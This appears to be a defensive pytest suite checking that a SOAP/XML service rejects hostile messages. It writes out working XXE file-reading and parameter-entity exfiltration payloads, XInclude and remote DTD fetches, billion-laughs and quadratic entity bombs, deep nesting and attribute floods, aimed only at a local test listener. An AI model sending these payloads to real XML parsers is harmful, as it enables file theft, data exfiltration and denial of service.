"""Attacks that are written in XML, row by row: each gets a typed fault, reads nothing of ours, and harms nobody.

The rows are those of a study of Spyne 2.14 (security). Depth, attributes, items and long texts have limits and tests
of their own; here they must only do no harm.
"""

import http.server
import threading
from contextlib import contextmanager
from time import perf_counter

import pytest

from paraphe import store

from .cast import digest
from .house import ENVELOPES, V1, envelope_of

pytestmark = pytest.mark.parametrize("house", ["sqlite"], indirect=True)
SECRET = "the content of a file of the server"
KNOWN = "<reference>S1</reference><lastName>L</lastName><firstName>F</firstName>"


@pytest.fixture
def caller(house):
    """In version 1.1: the ways are the same."""
    return house.account()


@pytest.fixture
def secret(tmp_path):
    """The address of a file that no message may read."""
    path = tmp_path / "secret.txt"
    path.write_text(SECRET)
    return path.as_uri()


@contextmanager
def listening():
    """A web server, and the addresses that it was asked for."""
    asked = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_error(404)

        def log_message(self, *_):
            pass

    with http.server.HTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()


def with_doctype(declared, training="x", external=""):
    """A message with a document type declaration, and a student whose training may use it."""
    payload = (
        f"<SyncStudents><students><student>{KNOWN}<training>{training}</training></student></students></SyncStudents>"
    )
    doctype = f"<!DOCTYPE x {external}[{declared}]>\n".encode()
    return envelope_of("1.1", payload).replace(b"?>\n", b"?>\n" + doctype, 1)


def refused(caller, message, *codes, seconds=5.0):
    """Send a message that must be refused at once, with one of these codes, with nothing stored or read."""
    began = perf_counter()
    reply = caller.send(message)

    assert perf_counter() - began < seconds
    assert reply.is_fault
    assert reply.codes[0] in codes
    assert SECRET not in reply.body.decode()
    assert len(reply.body) < 10_000
    assert caller.house.count(store.student, caller.account) == 0
    return reply


DTD = ("FORBIDDEN_CONSTRUCT",)
BOMB = ("FORBIDDEN_CONSTRUCT", "MALFORMED_MESSAGE")

# What points elsewhere -------------------------------------------------------------------------------------------


def test_row_an_entity_that_is_a_file_is_not_read(caller, secret):
    refused(caller, with_doctype(f'<!ENTITY e SYSTEM "{secret}">', "&e;"), *DTD)
    refused(caller, with_doctype(f'<!ENTITY e SYSTEM "{secret}">'), *DTD)


@pytest.mark.parametrize("where", ["entity", "parameter", "external", "public"])
def test_row_nothing_is_fetched_for_a_document_type(caller, where):
    with listening() as (url, asked):
        messages = {
            "entity": with_doctype(f'<!ENTITY e SYSTEM "{url}/e">', "&e;"),
            "parameter": with_doctype(f'<!ENTITY % p SYSTEM "{url}/p"> %p;'),
            "external": with_doctype("", external=f'SYSTEM "{url}/x.dtd" '),
            "public": with_doctype("", external=f'PUBLIC "-//W3C//DTD" "{url}/x.dtd" '),
        }
        refused(caller, messages[where], *BOMB)

    assert not asked


def test_row_a_parameter_entity_cannot_carry_a_file_away(caller, secret):
    with listening() as (url, asked):
        carried = f"<!ENTITY % f SYSTEM '{secret}'><!ENTITY % a \"<!ENTITY &#37; b SYSTEM '{url}/%f;'>\">%a;%b;"
        refused(caller, with_doctype(carried), *BOMB)

    assert not asked


def test_an_inclusion_and_a_location_of_a_schema_are_not_followed(caller, secret):
    with listening() as (url, asked):
        for more in (
            f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="{secret}" parse="text"/>',
            f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="{url}/i"/>',
        ):
            payload = f"<SyncStudents><students><student>{KNOWN}{more}</student></students></SyncStudents>"
            refused(caller, envelope_of("1.1", payload), "SCHEMA_INVALID", "FORBIDDEN_CONSTRUCT")
        xsi = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
        for location in (f'schemaLocation="urn:x {url}/s"', f'noNamespaceSchemaLocation="{url}/s"'):
            caller.post(f"<GetRecordList {xsi} xsi:{location}/>")
        style = f'<?xml-stylesheet type="text/xsl" href="{url}/style"?>'.encode()
        caller.send(envelope_of("1.1", "<CheckConnection/>").replace(b"?>\n", b"?>\n" + style, 1))

    assert not asked


# What grows ------------------------------------------------------------------------------------------------------

LAUGHS = '<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
GROWING = {
    "billion laughs": with_doctype(LAUGHS, "&l11;"),
    "billion laughs in an attribute": with_doctype(LAUGHS, '<a b="&l11;"/>'),
    "billion laughs in a large message": with_doctype(LAUGHS, f"&l11;{'x' * 9_500_000}"),
    "quadratic blow-up": with_doctype(f'<!ENTITY q "{"x" * 50_000}">', "&q;" * 50_000),
    "quadratic blow-up in an attribute": with_doctype(f'<!ENTITY q "{"x" * 50_000}">', f'<a b="{"&q;" * 50_000}"/>'),
    "an entity in itself": with_doctype('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;"),
    "parameter entities": with_doctype(
        "<!ENTITY % p0 'ha'>" + "".join(f"<!ENTITY % p{n} '{f'&#37;p{n - 1};' * 10}'>" for n in range(1, 9)) + "%p8;"
    ),
    "attributes by default": with_doctype(f'<!ATTLIST student a CDATA "{"x" * 50_000}">'),
}


@pytest.mark.parametrize("kind", GROWING)
def test_row_entities_that_grow_are_refused_at_once(caller, kind):
    refused(caller, GROWING[kind], *BOMB, "MESSAGE_TOO_COMPLEX", "MESSAGE_TOO_LARGE")


@pytest.mark.parametrize("depth", [300, 1500, 100_000])
@pytest.mark.parametrize("more", ["", ' id="x"', ' href="#x"'], ids=["bare", "with id", "with href"])
def test_row_deep_nesting_is_a_fault_and_no_crash(caller, depth, more):
    nested = f"<a{more}>" * depth + "</a>" * depth
    large = f"<b>{'x' * 9_500_000}</b>" if depth == 1500 else ""

    refused(
        caller,
        envelope_of("1.1", f"<SyncStudents>{nested}{large}</SyncStudents>"),
        *("MALFORMED_MESSAGE", "MESSAGE_TOO_COMPLEX", "SCHEMA_INVALID"),
    )


@pytest.mark.parametrize(
    "students",
    [
        '<student id="a" href="#a"/>',
        '<student id="a" href="#b"/><student id="b" href="#a"/>',
        '<student id="a"/><student href="#nowhere"/>',
        f'<student id="a">{KNOWN}</student><student href="#a"/>',
    ],
    ids=["itself", "a circle", "nowhere", "shared"],
)
def test_row_references_of_rpc_encoding_are_a_fault_and_no_crash(caller, students):
    message = envelope_of("1.1", f"<SyncStudents><students>{students}</students></SyncStudents>")

    refused(caller, message, "SCHEMA_INVALID")


@pytest.mark.parametrize("where", ["payload", "item", "leaf", "declared header", "other header", "Body", "Envelope"])
def test_row_a_hundred_thousand_attributes_take_no_time(caller, where):
    many = "".join(f' a{number}="x"' for number in range(100_000))
    at = {name: many if name == where else "" for name in ("payload", "item", "leaf")}
    header = {
        "declared header": f'<Credentials xmlns="urn:paraphe:exchange:v1"{many}/>',
        "other header": f'<Route xmlns="urn:route"{many}/>',
    }.get(where, "")
    training = f"<training{at['leaf']}>x</training>"
    student = f"<student{at['item']}>{KNOWN}{training}</student>"
    message = envelope_of("1.1", f"<SyncStudents{at['payload']}><students>{student}</students></SyncStudents>", header)
    for name in ("Body", "Envelope"):
        message = (
            message.replace(f"<soap:{name}".encode(), f"<soap:{name}{many}".encode()) if where == name else message
        )

    refused(caller, message, "SCHEMA_INVALID", "MESSAGE_TOO_COMPLEX")


@pytest.mark.slow
def test_row_a_file_of_more_than_ten_megabytes_arrives_whole(caller):
    content = b"%PDF-1.7\n" + bytes(range(256)) * 48_000
    reply = caller.call("SendInvoice", fileName="large.pdf", content=content)

    kept = caller.house.rows(store.document.select().where(store.document.c.document_id == reply.documentId))
    assert [document.sha256 for document in kept] == [digest(content)]


# What is no envelope ---------------------------------------------------------------------------------------------

NO_REQUESTS = {
    "empty request": (b"", "MALFORMED_MESSAGE"),
    "white space": (b" \r\n\t ", "MALFORMED_MESSAGE"),
    "empty Body": (b'<e:Envelope xmlns:e="ENV"><e:Body/></e:Envelope>', "INVALID_ENVELOPE"),
    "text in the Body": (
        b'<e:Envelope xmlns:e="ENV"><e:Body>CheckConnection</e:Body></e:Envelope>',
        "INVALID_ENVELOPE",
    ),
    "no Body": (b'<e:Envelope xmlns:e="ENV"/>', "INVALID_ENVELOPE"),
    "a Header alone": (b'<e:Envelope xmlns:e="ENV"><e:Header/></e:Envelope>', "INVALID_ENVELOPE"),
    "a Fault": (b'<e:Envelope xmlns:e="ENV"><e:Body><e:Fault/></e:Body></e:Envelope>', "INVALID_ENVELOPE"),
    "a Body alone": (b'<e:Body xmlns:e="ENV"/>', "VERSION_MISMATCH"),
    "an Envelope in the Body": (
        b'<e:Envelope xmlns:e="ENV"><e:Body><e:Envelope/></e:Body></e:Envelope>',
        "UNKNOWN_OPERATION",
    ),
}


@pytest.mark.parametrize("version", ["1.1", "1.2"])
@pytest.mark.parametrize("kind", NO_REQUESTS)
def test_row_a_message_without_a_request_is_a_fault_and_no_crash(house, version, kind):
    body, code = NO_REQUESTS[kind]

    assert house.account(version).send(body.replace(b"ENV", ENVELOPES[version].encode())).codes == [code]


CHECK = envelope_of("1.1", "<CheckConnection/>")
NOT_XML = {
    "a line before the declaration": b"\n" + CHECK,
    "a zero byte": CHECK.replace(b"Connection/>", b"Connection>\0</CheckConnection>"),
    "a control character": CHECK.replace(b"Connection/>", b"Connection>&#1;</CheckConnection>"),
    "truncated": CHECK[: len(CHECK) // 2],
    "without its last byte": CHECK[:-1],
    "something behind it": CHECK + b"<more/>",
    "text behind it": CHECK + b"more",
    "two messages": CHECK + CHECK,
    "an unknown entity": CHECK.replace(b"Connection/>", b"Connection>&nbsp;</CheckConnection>"),
    "a prefix that nobody declared": CHECK.replace(b"<CheckConnection/>", b"<p:CheckConnection/>"),
    "an attribute twice": CHECK.replace(b"Connection/>", b'Connection a="1" a="2"/>'),
    "XML 9.9": CHECK.replace(b'"1.0"', b'"9.9"'),
    "only a declaration": b'<?xml version="1.0"?>',
    "PDF": b"%PDF-1.7",
    "JSON": b'{"CheckConnection": {}}',
    "HTML": b"<html><body><br></body></html>",
}


@pytest.mark.parametrize("kind", NOT_XML)
def test_row_what_is_not_well_formed_is_a_fault(caller, kind):
    refused(caller, NOT_XML[kind], "MALFORMED_MESSAGE", seconds=2)


BYTES = {
    "latin-1 as utf-8": ("é".encode("latin-1"), "text/xml; charset=utf-8"),
    "utf-8 as us-ascii": ("é".encode(), "text/xml; charset=us-ascii"),
    "half a character": (b"\xc3", "text/xml"),
    "an overlong slash": (b"\xc0\xaf", "text/xml; charset=utf-8"),
    "half a surrogate pair": (b"\xed\xa0\x80", "text/xml; charset=utf-8"),
    "an unknown charset": (b"e", "text/xml; charset=klingon"),
    "a codec that is no charset": (b"e", "text/xml; charset=punycode"),
}


@pytest.mark.parametrize("kind", BYTES)
def test_row_bytes_that_are_not_in_their_charset_are_a_fault_and_no_crash(caller, kind):
    name, media_type = BYTES[kind]
    message = envelope_of("1.1", "<GetRecordList><invoiceNumber>NAME</invoiceNumber></GetRecordList>")
    if "charset" not in media_type:
        message = message.replace(b' encoding="UTF-8"', b"")

    reply = caller.send(message.replace(b"NAME", name), headers={"Content-Type": media_type})

    assert reply.codes == ["MALFORMED_MESSAGE"]


@pytest.mark.parametrize("encoding", ["iso-8859-1", "windows-1252", "utf-16", "utf-8-sig"])
@pytest.mark.parametrize("told", ["declared", "by charset"])
def test_row_other_encodings_arrive_as_the_same_text(caller, encoding, told):
    name = encoding.removesuffix("-sig")
    text = "Chloé Le Goff"
    student = KNOWN.replace("<firstName>F", f"<firstName>{text}")
    message = envelope_of(
        "1.1", f"<SyncStudents><students><student>{student}</student></students></SyncStudents>"
    ).decode()
    message = message.replace("UTF-8", name) if told == "declared" else message.partition("?>")[2].lstrip()
    media_type = "text/xml" if told == "declared" else f"text/xml; charset={name}"

    assert caller.send(message.encode(encoding), headers={"Content-Type": media_type}).ok

    mine = store.student.c.account_id == caller.account.id
    assert [row.first_name for row in caller.house.rows(store.student.select().where(mine))] == [text]


def test_after_all_that_the_server_still_serves(caller):
    reply = caller.send(CHECK)

    assert reply.ok
    assert reply.result.tag == f"{V1}CheckConnectionResult"
